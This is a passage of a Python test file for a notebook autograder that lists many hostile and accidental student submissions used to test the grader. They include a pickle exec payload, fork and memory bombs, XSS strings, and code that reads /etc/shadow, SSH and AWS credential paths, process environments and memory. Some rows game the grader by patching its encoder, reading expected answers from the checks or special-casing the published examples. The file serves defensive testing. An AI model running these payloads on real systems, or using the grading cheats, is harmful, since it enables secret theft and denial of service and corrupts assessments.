        class Payload:
            def __reduce__(self):
                return (exec, ("open('/tmp/@TRACE@', 'w')",))
        """
        ],
        body="return Payload()",
        reason="Payload",
    ),
    attack(
        19,
        "pickle",
        "bytes",
        body="""
        import pickle
        return pickle.dumps({"a": 1})
        """,
    ),
    attack(
        19,
        "pickle",
        "an object array",
        body="""
        import numpy as np
        return np.array([exec, print], dtype=object)
        """,
        reason="plain numbers",
    ),
    *[
        accident(20, "timestamp", variant, files={"timestamp.txt": text}, reason=reason)
        for variant, text, reason in (
            ("early", "1999-01-01 00:00:00.000000 UTC", None),
            ("late", "2999-12-31 23:59:59.000000 UTC", None),
            ("no time", "soon", "timestamp.txt is not a time"),
            ("bytes", b"\xff\xfe\x00\x00", "timestamp.txt is not a time"),
            ("before the beginning", "0001-01-01 00:00:00 +2300", "timestamp.txt is not a time"),
            ("after the end", "9999-12-31 23:59:59 -2300", "timestamp.txt is not a time"),
            ("a huge number", "9" * 60, "timestamp.txt is not a time"),
            ("two megabytes", "2" * 2_000_000, "timestamp.txt is not a time"),
        )
    ],
    accident(
        20, "timestamp", "a link", prepare=lambda folder, world: (folder / "timestamp.txt").symlink_to("/etc/passwd")
    ),
    attack(
        21,
        "detects grading",
        "and strikes",
        body="""
        import os, sys
        if "autograder.inside.warm" in sys.modules or "autograder.inside.probe" in sys.modules or os.environ.get("NBGRADER_EXECUTION"):
            import autograder.inside.wire
            autograder.inside.wire.encode = lambda value: b"B\\x01\\x00\\x00\\x00\\x01"
        """,
    ),
    attack(
        21,
        "detects grading",
        "and prints what it sees",
        first=[
            """
        import getpass, os, sys
        print(dict(os.environ), os.getcwd(), os.getuid(), sys.argv, sys.path, sys.orig_argv)
        """
        ],
    ),
]

ROWS += [
    # 22, 23: the end of a function, or of the process
    *[
        accident(22, "exit", variant, COST, cells=cost(body), reason=reason)
        for variant, body, reason in (
            ("sys.exit", "import sys\nsys.exit(0)", "was ended by SystemExit"),
            ("SystemExit", "raise SystemExit", "was ended by SystemExit"),
            ("KeyboardInterrupt", "raise KeyboardInterrupt", "was ended by KeyboardInterrupt"),
            ("GeneratorExit", "raise GeneratorExit", "stopped with GeneratorExit"),
        )
    ],
    accident(22, "exit", "in cells", last=["import sys; sys.exit(3)", "raise KeyboardInterrupt", "quit()"]),
    *[
        accident(23, "crash", variant, COST, cells=cost(body), reason=reason)
        for variant, body, reason in (
            ("os._exit", "import os\nos._exit(0)", "stopped the whole Python process"),
            ("segmentation fault", "import ctypes\nctypes.string_at(0)", r"Python process \(SIGSEGV\)"),
            ("os.abort", "import os\nos.abort()", r"Python process \(SIGABRT\)"),
            ("a real-time signal", "import os\nos.kill(os.getpid(), 40)", "stopped the whole Python process"),
        )
    ],
    accident(
        23,
        "crash",
        "segmentation fault in a cell",
        last=["import ctypes; ctypes.string_at(0)"],
        reason="ended the whole Python process",
    ),
    accident(
        23, "crash", "os.abort in a cell", first=["import os; os.abort()"], reason="ended the whole Python process"
    ),
    # 24, 25: time
    *[
        accident(24, "endless", variant, COST, cells=cost(body), reason="took longer than 1 seconds")
        for variant, body in (
            ("loop", "while True:\n    pass"),
            ("call in C", "import ctypes\nctypes.CDLL(None).pause()"),
            ("signals ignored", "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\nwhile True: pass"),
        )
    ],
    accident(24, "endless", "loop in a cell", last=["while True: pass"], reason="took longer than 2 seconds"),
    accident(
        24,
        "endless",
        "cell that swallows",
        last=[
            """
        while True:
            try:
                while True: pass
            except BaseException:
                pass
        """
        ],
        reason="took longer than 2 seconds",
    ),
    accident(24, "endless", "cell in C", last=["sum(range(10**13))"], reason="could not be interrupted"),
    attack(
        25,
        "many slow cells",
        "each under its limit",
        first=["import time; time.sleep(1.6)"] * 20,
        plain=False,
        reason="almost all its time",
    ),
    accident(25, "many slow cells", "behind right answers", last=["import time; time.sleep(1.6)"] * 20, plain=False),
    # 26, 27: floods and bombs
    *[
        accident(26, "flood", variant, last=[code], plain=False)
        for variant, code in (
            ("many lines", "for i in range(3_000_000): print('x' * 60)"),
            ("one long line", "print('x' * 200_000_000)"),
            ("stderr", "import sys\nfor i in range(300_000): print('x' * 300, file=sys.stderr)"),
            ("repr", "class Large:\n    def __repr__(self): return 'x' * 200_000_000\nLarge()"),
            (
                "displays",
                "from IPython.display import HTML, display\nfor i in range(20_000): display(HTML('x' * 1000))",
            ),
            ("error", "raise ValueError('x' * 100_000_000)"),
            (
                "standard descriptors",
                "import os\nfor i in range(2000):\n    for n in (1, 2): os.write(n, b'@TRACE@' * 5000)",
            ),
        )
    ],
    accident(
        26,
        "flood",
        "by a function",
        COST,
        plain=False,
        cells=cost("for i in range(200_000): print('x' * 500)\nraise ValueError('x' * 50_000_000)"),
        reason="ValueError",
    ),
    accident(26, "flood", "a key of 20 MB", COST, cells=cost("return {'k' * 20_000_000: 1.0}"), plain=False),
    accident(
        27,
        "bomb",
        "memory in a cell",
        last=[
            """
        @CONTAINED@
        kept = []
        for i in range(300):
            kept.append(b"x" * 16_000_000)
        print("SURVIVED")
        """
        ],
        plain=False,
    ),
    accident(
        27,
        "bomb",
        "memory in a function",
        COST,
        plain=False,
        reason="MemoryError|stopped the whole Python process",
        cells=cost("@CONTAINED@\nkept = []\nfor i in range(300):\n    kept.append(bytes(16_000_000))"),
    ),
    *[
        accident(
            27,
            "bomb",
            variant,
            last=[
                f"""
        @CONTAINED@
        import ctypes, time
        for i in range(8):
            if os.fork() == 0:
                {hide}
                kept = bytearray(b"x") * 300_000_000
                time.sleep(60)
        time.sleep(60)
        """
            ],
            plain=False,
            reason="took too much memory",
        )
        for variant, hide in (
            ("memory of many processes", "pass"),
            ("memory of processes that hide", "ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)"),
        )
    ],
    accident(
        27,
        "bomb",
        "shared memory",
        last=[
            """
        @CONTAINED@
        import mmap
        kept = mmap.mmap(-1, 3_000_000_000)
        for i in range(0, len(kept), 1_000_000):
            kept[i : i + 1_000_000] = b"x" * 1_000_000
        print("SURVIVED")
        """
        ],
        plain=False,
    ),
    accident(
        27,
        "bomb",
        "files in memory",
        last=[
            """
        @CONTAINED@
        import os
        number = os.memfd_create("x")
        for i in range(60):
            os.write(number, b"x" * 10_000_000)
        print("SURVIVED")
        """
        ],
        plain=False,
    ),
    attack(
        27,
        "bomb",
        "forks",
        first=[
            """
        @CONTAINED@
        import os, time
        for i in range(3000):
            if os.fork() == 0:
                time.sleep(1000)
        print("SURVIVED")
        """
        ],
        plain=False,
    ),
    attack(
        27,
        "bomb",
        "forks that fork",
        body="""
        @CONTAINED@
        import os
        for i in range(12):
            try: os.fork()
            except OSError: pass
        import time
        time.sleep(1000)
        """,
        plain=False,
    ),
    attack(
        27,
        "bomb",
        "threads",
        first=[
            """
        @CONTAINED@
        import threading, time
        for i in range(3000):
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        print("SURVIVED")
        """
        ],
        plain=False,
    ),
    accident(
        27,
        "bomb",
        "disk",
        last=[
            """
        @CONTAINED@
        block = b"x" * 10_000_000
        for i in range(300):
            with open(f"/tmp/@TRACE@{i}", "wb") as file:
                file.write(block)
        print("SURVIVED")
        """
        ],
        plain=False,
    ),
    accident(
        27,
        "bomb",
        "one large file",
        last=[
            """
        @CONTAINED@
        with open("large", "wb") as file:
            for i in range(300):
                file.write(b"x" * 10_000_000)
        print("SURVIVED")
        """
        ],
        plain=False,
    ),
    accident(
        27,
        "bomb",
        "many small files",
        last=[
            """
        @CONTAINED@
        for i in range(20_000):
            open(f"small{i}", "w").close()
        """
        ],
        plain=False,
    ),
    accident(
        27,
        "bomb",
        "descriptors",
        last=[
            """
        @CONTAINED@
        kept = []
        for i in range(100_000):
            kept.append(open("/dev/null"))
        print("SURVIVED")
        """
        ],
        plain=False,
    ),
    # 28: nobody is there
    accident(
        28, "interactive", "input in a function", COST, cells=cost("return float(input('cost? '))"), reason="EOFError"
    ),
    accident(
        28,
        "interactive",
        "breakpoint in a function",
        COST,
        cells=cost("breakpoint()\nreturn 1 + 'x'"),
        plain=False,
        reason="compute_cost` stopped|compute_cost stopped|was ended by|stopped the whole",
    ),
    accident(
        28,
        "interactive",
        "cells",
        last=["input()", "1 / 0", "%debug", "%pdb on", "breakpoint()", "%run -d x.py"],
        plain=False,
    ),
    accident(
        28,
        "interactive",
        "windows",
        last=[
            "%matplotlib tk",
            "%gui qt",
            "import matplotlib; matplotlib.use('TkAgg')",
            "import matplotlib.pyplot as plt; plt.plot([1, 2]); plt.show(block=True)",
        ],
    ),
    # 29 to 34: the notebook itself
    accident(29, "checks deleted", "right answers", change=delete_checks),
    attack(29, "checks deleted", "wrong answers", change=delete_checks),
    accident(30, "metadata", "not graded", change=set_metadata(grade=False)),
    accident(30, "metadata", "all solutions", change=set_metadata(solution=True, locked=False)),
    accident(30, "metadata", "few points", change=set_metadata(points=1)),
    attack(30, "metadata", "many points", change=set_metadata(points=1000)),
    attack(30, "metadata", "negative and endless", change=set_metadata(points=float("inf"))),
    accident(31, "moved", "copied cells", change=copy_cells, reason="more than one cell"),
    accident(31, "moved", "split cell", change=split_cell, reason="had been split"),
    accident(31, "moved", "answer in the next cell", change=paste_elsewhere),
    accident(32, "changed", "renamed id", change=change_cell("layer_sizes", grade_id="mine"), reason="lost its name"),
    accident(32, "changed", "renamed check", change=change_cell("check_predict", grade_id="check_all")),
    accident(32, "changed", "code to markdown", change=retype(new_markdown_cell)),
    accident(32, "changed", "code to raw", change=retype(new_raw_cell)),
    accident(32, "changed", "reordered", change=reorder),
    accident(
        32, "changed", "raw cells added", change=lambda notebook, world: notebook.cells.insert(3, new_raw_cell("x"))
    ),
    *[
        attack(33, "file", variant, raw=lambda data, content=content: content, reason=reason, plain=plain)
        for variant, content, reason, plain in (
            ("empty", b"", "The file is empty", True),
            ("invalid JSON", b'{"cells": [', "not valid JSON", True),
            ("a PDF", b"%PDF-1.7 my homework", "it is a PDF", True),
            ("a list", b"[]", "has no cells", True),
            ("deep", b'{"cells":' + b"[" * 200_000, "not valid JSON", True),
            ("a number of 5000 digits", b'{"cells": [], "x": ' + b"9" * 5000 + b"}", None, True),
            ("100 MB", b'{"cells": [' + b" " * 100_000_000 + b"]}", None, False),
        )
    ],
    accident(33, "file", "nbformat 3", raw=to_nbformat_3),
    accident(33, "file", "byte order mark", raw=lambda data: b"\xef\xbb\xbf" + data),
    accident(33, "file", "utf-16", raw=lambda data: data.decode().encode("utf-16")),
    accident(
        33,
        "file",
        "another kernel",
        change=lambda notebook, world: notebook.metadata.update(
            kernelspec={"name": "julia-1.9", "display_name": "Julia", "language": "julia"}
        ),
    ),
    accident(33, "file", "twice the keys", raw=lambda data: data[:-1] + b', "nbformat": 9, "metadata": 3}'),
    attack(
        33, "file", "missing", prepare=instead_of_the_notebook(lambda path, world: None), reason="it holds no files"
    ),
    attack(
        33,
        "file",
        "a folder",
        prepare=instead_of_the_notebook(lambda path, world: path.mkdir()),
        reason="it holds no files",
    ),
    accident(
        34,
        "syntax error",
        "in one cell",
        cells={"compute_cost": "@RIGHT:compute_cost@\nprint((1"},
        reason="syntax error|SyntaxError",
    ),
    accident(
        34,
        "syntax error",
        "indentation",
        COST,
        cells={"compute_cost": "def compute_cost(A2, Y):\nreturn 1"},
        reason="syntax error|IndentationError",
    ),
    accident(
        34, "syntax error", "null byte", COST, cells={"compute_cost": "def compute_cost(A2, Y):\x00\n    return 1"}
    ),
    # 35: stderr is no error
    accident(
        35,
        "stderr",
        "warnings and logs",
        cells=instead(
            "predict",
            """
        import logging, sys, warnings
        warnings.warn("mind the step")
        logging.getLogger().error("logged")
        print("to stderr", file=sys.stderr)
        np.array([1.0]) / np.array([0.0])
        return right_predict(*args, **kwargs)
        """,
        ),
    ),
    accident(35, "stderr", "warnings as errors", first=["import warnings\nwarnings.simplefilter('error')"]),
    # 36, 37: what the pages may show
    attack(36, "markup", "in messages", body=f'raise ValueError("""{XSS}""")', reason="script"),
    attack(
        36,
        "markup",
        "in keys, texts and names",
        cells={
            "layer_sizes": f'def layer_sizes(X, Y):\n    return {{"""{XSS}""": 1}}',
            "predict": f'def predict(parameters, X):\n    return """{XSS}"""',
            "compute_cost": f'def compute_cost(A2, Y):\n    raise type("""{XSS}""", (Exception,), {{}})("x")',
        },
    ),
    attack(
        36,
        "markup",
        "in outputs",
        first=[
            f'''
        from IPython.display import HTML, SVG, Javascript, Markdown, display
        text = """{XSS}"""
        display(HTML(text), Markdown(text), Javascript("alert(6)"))
        display({{"image/svg+xml": "<svg onload='alert(7)'><script>alert(8)</script></svg>"}}, raw=True)
        display({{"text/html": text, "application/javascript": "alert(9)"}}, raw=True)
        print(text)
        '''
        ],
    ),
    attack(
        36, "markup", "in markdown", change=lambda notebook, world: notebook.cells.insert(0, new_markdown_cell(XSS))
    ),
    attack(
        37,
        "hidden test shown",
        "by an exception",
        body="""
        import sys, traceback
        traceback.print_stack()
        raise AssertionError("".join(traceback.format_stack()))
        """,
    ),
    # 38 to 40: answers from elsewhere
    attack(38, "probe", "a bit by another answer", cells=cost("return 1.0 if Y.flat[0] > 0 else -1.0")),
    attack(
        38,
        "probe",
        "bits by a crash",
        cells=cost("import os\nif Y.flat[0] > 0: os._exit(3)\nreturn [A2.shape, Y.shape]"),
    ),
    attack(
        38, "probe", "the input in the message", cells=cost("raise ValueError(repr((A2.tolist(), Y.tolist()))[:200])")
    ),
    attack(
        39,
        "special case",
        "the published example",
        cells={"layer_sizes": "def layer_sizes(X, Y):\n    return (5, 4, 2) if X.shape == (5, 3) else (0, 0, 0)"},
    ),
    attack(
        40,
        "constants",
        "from an earlier run",
        cells={
            "layer_sizes": "def layer_sizes(X, Y):\n    return 7, 4, 9",
            "compute_cost": "costs = [0.7421, 0.6543, 0.5108, 2.3]\ndef compute_cost(A2, Y, parameters=None):\n"
            "    return costs[Y.shape[1] % 4]",
        },
    ),
    Attack(
        40,
        "constants",
        "from the public checks",
        honest=0,
        cells={
            "layer_sizes": """
        from pathlib import Path
        from autograder.authoring import public
        from autograder.inside import wire
        recorded = {}
        for check in public.thaw(Path("checks.bin").read_bytes()).values():
            recorded.update({outcome.call.payload: outcome.value for outcome in check.expected})
        def layer_sizes(*args, **kwargs):
            return recorded.get(wire.encode((args, kwargs)), (0, 0, 0))
        """
        },
        plain=False,
    ),
    # 41: what the exercise forbids, reached in many ways
    *[
        accident(
            41, "ready answer", variant, COST, cells={"compute_cost": clean(code)}, reason="asks you to do without it"
        )
        for variant, code in {
            "called": f"from sklearn.metrics import log_loss\n{READY}",
            "alias": f"import sklearn.metrics\nloss = sklearn.metrics.log_loss\nlog_loss = loss\n{READY}",
            "getattr": f"import sklearn\nlog_loss = getattr(sklearn.metrics, 'log' + '_loss')\n{READY}",
            "importlib": f"import importlib\nlog_loss = importlib.import_module('sklearn.metrics').log_loss\n{READY}",
            "eval": f"log_loss = eval('__import__(\"sklearn.metrics\").metrics.log_loss')\n{READY}",
            "unwrapped": f"import sklearn.metrics\nlog_loss = sklearn.metrics.log_loss.__wrapped__\n{READY}",
            "a copy of its code": "import sklearn.metrics, types\nf = sklearn.metrics.log_loss.__wrapped__\n"
            f"log_loss = types.FunctionType(f.__code__.replace(), f.__globals__, 'f', f.__defaults__)\n"
            f"log_loss.__kwdefaults__ = f.__kwdefaults__\n{READY}",
            "in a thread": "from concurrent.futures import ThreadPoolExecutor\nimport sklearn.metrics\n"
            "def log_loss(*args, **options):\n    with ThreadPoolExecutor() as pool:\n"
            f"        return pool.submit(sklearn.metrics.log_loss, *args, **options).result()\n{READY}",
            "taken out of its module": "import sklearn.metrics\nfrom sklearn.metrics import log_loss\n"
            f"sklearn.metrics.log_loss = sklearn.metrics._classification.log_loss = None\n{READY}",
        }.items()
    ],
    accident(
        41,
        "ready answer",
        "nobody is to watch",
        COST,
        cells=cost(
            "import sys\nfrom sklearn.metrics import log_loss\nsys.setprofile(None)\nreturn log_loss(Y[0], A2[0])"
        ),
        reason="compute_cost",
    ),
    accident(
        41,
        "ready answer",
        "imported but not called",
        cells={"compute_cost": "from sklearn.metrics import log_loss\n@RIGHT:compute_cost@"},
    ),
    # 42 to 46: answers that are almost right
    accident(
        42,
        "notebook global",
        "instead of an argument",
        15,
        reason="reads X_small of the notebook",
        change=lambda notebook, world: cell_of(notebook, "forward_propagation").update(
            source=world.solutions["forward_propagation"].replace("W1 @ X + b1", "W1 @ X_small + b1")
        ),
    ),
    accident(
        43,
        "changes arguments",
        "right otherwise",
        15 / 6,
        cells=instead(
            "forward_propagation",
            """
        result = right_forward_propagation(*args, **kwargs)
        for value in (args[1] if len(args) > 1 else kwargs["parameters"]).values():
            value += 1
        return result
        """,
        ),
        reason="changes its argument",
    ),
    accident(
        44,
        "state",
        "right the first time",
        COST,
        cells=instead(
            "compute_cost",
            """
        calls.append(1)
        return right_compute_cost(*args, **kwargs) if len(calls) == 1 else 0.0
        """,
            before="calls = []",
        ),
        last=["calls.clear()"],
        reason="gives other results when it is called again",
    ),
    accident(
        44,
        "state",
        "no seed",
        10,
        cells={
            "initialize_parameters": """
        np.random.seed(2)
        def initialize_parameters(n_x, n_h, n_y):
            return {"W1": np.random.randn(n_h, n_x) * 0.01, "b1": np.zeros((n_h, 1)),
                    "W2": np.random.randn(n_y, n_h) * 0.01, "b2": np.zeros((n_y, 1))}
        """
        },
        reason="gives other results when it is called again",
    ),
    accident(
        44,
        "state",
        "a seed of its own besides",
        cells=instead(
            "nn_model",
            """
        np.random.seed(99)
        return right_nn_model(*args, **kwargs)
        """,
        ),
    ),
    *[
        accident(45, "almost", variant, COST, cells=cost(f"return {value}"), reason=reason)
        for variant, value, reason in (
            ("NaN", "np.nan", "NaN"),
            ("inf", "np.inf", "infinite"),
            ("minus inf", "-np.inf", "infinite"),
            ("a huge whole number", "10**400", None),
            ("a complex number", "1j", None),
            ("complex NaN", "complex('nan+nanj')", None),
            ("extended precision", "np.longdouble('1e4000')", None),
        )
    ],
    *[
        accident(
            45,
            "almost",
            variant,
            loses,
            cells=instead(name, f"result = right_{name}(*args, **kwargs)\n{code}"),
            reason=reason,
        )
        for variant, name, loses, code, reason in (
            ("float32", "predict", 0, "return result.astype(np.float32)", None),
            ("truth values", "predict", 0, "return result.astype(bool)", None),
            (
                "minus zero",
                "initialize_parameters",
                0,
                "return {k: v - 0.0 if v.any() else -v for k, v in result.items()}",
                None,
            ),
            ("one axis less", "predict", 10, "return result.ravel()", "axis|shape"),
            ("broadcasts", "predict", 10, "return np.broadcast_to(result, (3, *result.shape))", "shape"),
            ("floats for sizes", "layer_sizes", 0.83, "return tuple(float(n) for n in result)", "whole number"),
            ("a list for a tuple", "layer_sizes", 0, "return list(result)", None),
        )
    ],
    *[
        accident(46, "odd result", variant, COST, cells=cost(code), reason=reason)
        for variant, code, reason in (
            ("a generator", "return (x for x in [1.0])", "generator is not"),
            ("10 GB claimed", "return np.broadcast_to(0.0, (50_000, 25_000))", "too large"),
            ("an object array", "return np.array([object()])", "plain numbers"),
            ("a recursive list", "a = []\na.append(a)\nreturn a", "a list of 1"),
            (
                "a symbolic tensor",
                "class Tensor:\n    def __array__(self, *args): raise NotImplementedError('symbolic')\nreturn Tensor()",
                "has no values",
            ),
            ("a long list", "return [0] * 2_000_000", "more than"),
            ("text", "return 'x'", None),
            ("a class", "return int", "type is not"),
            ("itself", "return compute_cost", "function is not"),
        )
    ],
    accident(
        46,
        "odd result",
        "10 GB made",
        COST,
        cells=cost("@CONTAINED@\nreturn np.ones((50_000, 25_000))"),
        plain=False,
        reason="MemoryError|too large",
    ),
    accident(
        46,
        "odd result",
        "a memmap",
        cells=instead(
            "predict",
            """
        result = right_predict(*args, **kwargs)
        mapped = np.memmap("mapped", dtype=result.dtype, mode="w+", shape=result.shape)
        mapped[:] = result
        return mapped
        """,
        ),
    ),
    # 47 to 50: the folder, the others, and the machine
    attack(
        47, "folder", "links", prepare=links, **loot("search(['.', 'sources', 'others', 'up', 'loop', 'gradebook.db'])")
    ),
    accident(47, "folder", "pipes", prepare=devices),
    accident(47, "folder", "odd names", prepare=odd_names),
    accident(47, "folder", "a folder named as a released file", files={"checks.bin/x": "x"}, plain=False),
    accident(47, "folder", "a file named as a released file", files={"checks.bin": "x"}, plain=False),
    accident(47, "folder", "many files", files={f"many/{i}": "x" for i in range(2000)}),
    attack(
        47,
        "folder",
        "the notebook links to another's",
        prepare=instead_of_the_notebook(another_students),
        reason="not an ordinary file",
        plain=False,
    ),
    attack(
        47,
        "folder",
        "the notebook is a device",
        plain=False,
        reason="not an ordinary file",
        prepare=instead_of_the_notebook(lambda path, world: path.symlink_to("/dev/zero")),
    ),
    accident(
        47,
        "folder",
        "another name for the notebook",
        plain=False,
        prepare=lambda folder, world: next(folder.glob("*.ipynb")).rename(folder / "homework (2).ipynb"),
    ),
    accident(
        48,
        "another student",
        "in the metadata",
        change=lambda notebook, world: notebook.metadata.update(
            nbgrader={"student": "00-honest-untouched"}, student="00-honest-untouched", authors=[{"name": "honest"}]
        ),
    ),
    attack(48, "another student", "forged record", change=forge_record),
    accident(
        48,
        "another student",
        "in files",
        files={
            "student.txt": "00-honest-untouched",
            "00-honest-untouched/a15_planar_classification/x.txt": "x",
            "user_info.json": '{"student_id": "00-honest-untouched"}',
        },
    ),
    attack(
        49,
        "secrets",
        "environment",
        **loot("""
        print(dict(os.environ))
        search(f"/proc/{n}/{name}" for n in ("self", "thread-self", *range(1, 3000)) for name in ("environ", "cmdline")
               if os.path.exists(f"/proc/{n}"))
        """),
    ),
    attack(
        49,
        "secrets",
        "processes",
        **loot("""
        import subprocess
        for command in (["ps", "auxe"], ["env"], ["cat", "/proc/1/environ"], ["mount"]):
            try: print(subprocess.run(command, capture_output=True, text=True, timeout=0.5).stdout[-3000:])
            except (OSError, subprocess.SubprocessError) as error: print(command, error)
        """),
    ),
    attack(
        49,
        "secrets",
        "through descriptors and roots",
        **loot("""
        search(f"/proc/{n}/{where}" for n in ("self", 1, os.getppid()) for where in
               ("root@COURSE@", "cwd", "fd", "task/1/root@COURSE@"))
        search(["/run", "/etc/shadow", "/etc/ssh", "/var/run", "/root/.ssh", "/root/.aws", "/mnt", "/srv", "/opt"])
        """),
    ),
    attack(
        49,
        "secrets",
        "memory",
        first=[
            """
        import re
        found = set()
        for line in open("/proc/self/maps"):
            where, rights = line.split()[:2]
            start, end = (int(part, 16) for part in where.split("-"))
            if rights.startswith("rw") and end - start < 200_000_000:
                with open("/proc/self/mem", "rb", 0) as file:
                    file.seek(start)
                    found |= set(re.findall(rb"@LOOT@", file.read(end - start)))
        print(found)
        """
        ],
    ),
    *[
        attack(
            50,
            "talk",
            variant,
            first=[
                SEARCH
                + """
print("found", [path for path in glob.glob("/tmp/*") + glob.glob("/dev/shm/*") + glob.glob("/var/tmp/*")])
search(["/tmp", "/dev/shm", "/var/tmp", "/run/lock", "/dev/mqueue"])
for name in ("/tmp/@TRACE@", "/dev/shm/@TRACE@", "/var/tmp/@TRACE@", "/run/lock/@TRACE@"):
    try:
        open(name, "w").write("SECRET" + "-feedfacefeedface")
    except OSError:
        pass
import ctypes, socket
libc = ctypes.CDLL(None)
segment = libc.shmget(4242, 4096, 0o1666)
libc.shmat.restype = ctypes.c_void_p
address = libc.shmat(segment, None, 0)
if address not in (None, ctypes.c_void_p(-1).value):
    print(ctypes.string_at(address, 23))
    ctypes.memmove(address, ("SECRET" + "-feedfacefeedface").encode(), 23)
try:
    listener = socket.socket(socket.AF_UNIX)
    listener.bind("\\0@TRACE@-talk")
    listener.listen()
except OSError as error:
    print("SECRET" + "-feedfacefeedface", error)
"""
            ],
        )
        for variant in ("first", "second")
    ],
]

# Attacks of our own, on the ways in which the judge and a submission's process talk, and on the process itself.
OWN = [
    *[
        attack(101, "forged messages", variant, body=message(expression), written=FEW)
        for variant, expression in (
            ("a reply", '("reply", wire.encode({"value": wire.encode(0.0), "changed": []}))'),
            ("an early end", '("ended", "exit status 0")'),
            ("an end that is markup", '("ended", "<script>alert(1)</script>")'),
            ("an unasked question", '("ask", "forward_propagation", wire.encode(((), {})))'),
            ("a malformed question", '("ask", "forward_propagation", b"nonsense")'),
            ("a question without arguments", '("ask", "initialize_parameters")'),
            ("a question about a list", '("ask", ["initialize_parameters"], b"")'),
            ("a question with text for arguments", '("ask", "initialize_parameters", "text")'),
            ("a question with a list for keywords", '("ask", "initialize_parameters", wire.encode(([1, 2, 3], [1])))'),
            ("a question with numbers for both", '("ask", "initialize_parameters", wire.encode((1, 2)))'),
            ("an array", "np.zeros((2, 3))"),
            ("arrays in a message", "(np.zeros(2), np.zeros(3))"),
            ("an array as a reply", '("reply", np.zeros(3))'),
            ("an array as an end", '("ended", np.zeros(3))'),
            ("an empty message", "()"),
            ("nothing", "None"),
        )
    ],
    *[
        attack(
            102,
            "forged outputs",
            variant,
            first=[f"{clean(DESCRIPTORS)}\nimport numpy as np\nto_everyone(frame({message}))"],
        )
        for variant, message in (
            ("no outputs", '("cell", [])'),
            ("three things", '("cell", [], [])'),
            ("one thing", '("cell",)'),
            ("an array", "(np.zeros(2), [])"),
            ("outputs that are none", '("cell", [None, 3, "x", {}, {"output_type": "stream"}, [], np.zeros(3)])'),
            ("a mark", '("cell", [{"output_type": "execute_result", "data": {"text/plain": "100"}, "metadata": {}}])'),
            ("many", '("cell", [{"output_type": "stream", "name": "stdout", "text": "x"}] * 9000)'),
            ("a great length", '("cell", [{"output_type": "stream", "name": "stdout", "text": "x" * 60_000_000}])'),
        )
    ],
    *[
        attack(103, "forged bytes", variant, body=f"{clean(DESCRIPTORS)}\nto_everyone({data})", written=FEW)
        for variant, data in (
            ("4 GB claimed", 'b"\\xff" * 4'),
            ("64 MB claimed", 'struct.pack("<I", 64 * 2**20)'),
            ("nonsense", "os.urandom(1000)"),
            ("half a message", 'frame(("reply", b"x" * 100))[:50]'),
            ("a nested list", 'struct.pack("<I", 5 * 500) + b"l\\x01\\x00\\x00\\x00" * 500'),
            ("a list that claims billions", 'struct.pack("<I", 5) + b"l\\xff\\xff\\xff\\xff"'),
            ("an array that claims much", 'struct.pack("<I", 14) + b"A\\x03\\x02<f8" + b"\\xff" * 8'),
            (
                "an empty array that claims much",
                'struct.pack("<I", 18) + b"A\\x03\\x03<f8" + b"\\0" * 4 + b"\\xff" * 8',
            ),
            ("an array of objects", 'struct.pack("<I", 9) + b"A\\x02\\x01|O" + b"\\1\\0\\0\\0"'),
            ("a huge number", 'struct.pack("<I", 2005) + b"I" + struct.pack("<I", 2000) + b"\\xff" * 2000'),
        )
    ],
    *[
        attack(104, "forged replies", variant, first=[reply(expression)], reason=reason, written=FEW)
        for variant, expression, reason in (
            ("empty", 'b""', "makes no sense"),
            ("an array", "wire.encode(np.zeros(3))", "makes no sense"),
            ("text", 'wire.encode("failure")', "makes no sense"),
            ("a list", 'wire.encode(["failure"])', "makes no sense"),
            ("a failure that is none", 'wire.encode({"failure": 3})', "makes no sense"),
            ("an unknown failure", 'wire.encode({"failure": ("praise", "", "")})', "makes no sense"),
            ("a failure of arrays", 'wire.encode({"failure": np.zeros((3, 3))})', "makes no sense"),
            (
                "a failure with braces",
                'wire.encode({"failure": ("exception", "{0.__class__} {name}", "{line}")})',
                "stopped with",
            ),
            ("a value that is an array", 'wire.encode({"value": np.zeros(3), "changed": []})', "makes no sense"),
            ("a value that is text", 'wire.encode({"value": "N", "changed": []})', "makes no sense"),
            ("a value that is cut", 'wire.encode({"value": wire.encode([1, 2])[:2], "changed": []})', "makes no sense"),
            ("no value", 'wire.encode({"changed": []})', "makes no sense"),
            ("changed that is a number", 'wire.encode({"value": wire.encode(1.0), "changed": 3})', "makes no sense"),
            ("much that changed", 'wire.encode({"value": wire.encode(1.0), "changed": ["x" * 9000] * 9000})', None),
            (
                "again that is an array",
                'wire.encode({"value": wire.encode(1.0), "changed": [], "again": np.zeros(3)})',
                "makes no sense",
            ),
            ("a number where bytes are due", "3", None),
            (
                "a dictionary of surrogates",
                'wire.encode({"value": wire.encode({"\\ud800": "\\udfff"}), "changed": ["\\ud800"]})',
                None,
            ),
        )
    ],
    attack(
        105,
        "replies",
        "each twice",
        first=[
            """
        import sys
        from autograder.inside import warm
        for module in (warm, sys.modules["__main__"], *(m for m in list(sys.modules.values()) if hasattr(m, "serve"))):
            send = getattr(module, "send", None)
            if callable(send):
                def twice(channel, message, send=send):
                    send(channel, message)
                    if message[0] == "reply":
                        send(channel, message)
                module.send = twice
        import gc
        for function in gc.get_objects():
            if getattr(function, "__name__", "") == "_in_a_fork" and hasattr(function, "__globals__"):
                original = function.__globals__["send"]
                function.__globals__["send"] = lambda channel, message: (original(channel, message), original(channel, message))
        """
        ],
        reason="not asked for|stopped the whole|ended",
    ),
    attack(105, "replies", "63 MB each", first=[reply('b"x" * (63 * 2**20)')], plain=False, reason="stopped the whole"),
    attack(
        106,
        "reference asked",
        "for something huge",
        cells={
            "nn_model": """
        def nn_model(X, Y, n_h, num_iterations=10000, print_cost=False):
            return initialize_parameters(20_000, 20_000, 1)
        """
        },
        plain=False,
    ),
    attack(
        106,
        "reference asked",
        "for as much as may pass",
        cells={
            "nn_model": """
        def nn_model(X, Y, n_h, num_iterations=10000, print_cost=False):
            for missing in range(0, 600, 8):
                try:
                    return initialize_parameters((64 * 2**20 - missing) // 8 - 12, 1, 1)
                except ValueError:
                    pass
        """
        },
        plain=False,
    ),
    attack(
        106,
        "reference asked",
        "for ever",
        cells={
            "nn_model": """
        def nn_model(X, Y, n_h, num_iterations=10000, print_cost=False):
            import signal
            signal.signal(signal.SIGALRM, signal.SIG_IGN)
            while True:
                try: layer_sizes(X, Y)
                except ValueError: pass
        """
        },
        plain=False,
        reason="took longer|took too long|too many",
    ),
    attack(
        106,
        "reference asked",
        "for numbers that are none",
        cells={
